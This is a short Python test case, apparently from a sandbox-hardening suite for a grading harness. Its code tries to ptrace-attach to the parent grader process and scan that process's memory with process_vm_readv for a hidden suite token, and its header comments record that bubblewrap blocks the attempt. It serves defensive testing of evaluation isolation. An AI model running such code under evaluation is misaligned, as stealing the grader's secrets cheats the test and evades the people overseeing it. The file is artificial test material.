# attack: attach to the parent process with ptrace and search its memory (process_vm_readv) for
# the hidden suite's token; in the grader's process it would be there
# stopped-by: bwrap
# expect: guess_suite_token=failed
# seconds: 40
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _read(pid, start, size):
    buffer = ctypes.create_string_buffer(size)
    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), size)
    remote = IoVec(start, size)
    count = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw[:count] if count > 0 else b""


def guess_suite_token():
    parent = os.getppid()
    if libc.ptrace(PTRACE_ATTACH, parent, None, None) == 0:
        print("attached to process", parent, open(f"/proc/{parent}/cmdline").read()[:80])
        libc.ptrace(PTRACE_DETACH, parent, None, None)
    try:
        maps = open(f"/proc/{parent}/maps").read().splitlines()
    except OSError:
        return "unknown"
    for line in maps:
        span, perms = line.split()[:2]
        start, end = (int(value, 16) for value in span.split("-"))
        if "r" not in perms or end - start > 256 << 20:
            continue
        for offset in range(start, end, 1 << 20):
            match = re.search(rb"suite-canary-[0-9a-f]{16}", _read(parent, offset, min(1 << 20, end - offset)))
            if match:
                print("ATTACK-SUCCEEDED found the suite token in the parent's memory")
                return match.group().decode()
    return "unknown"
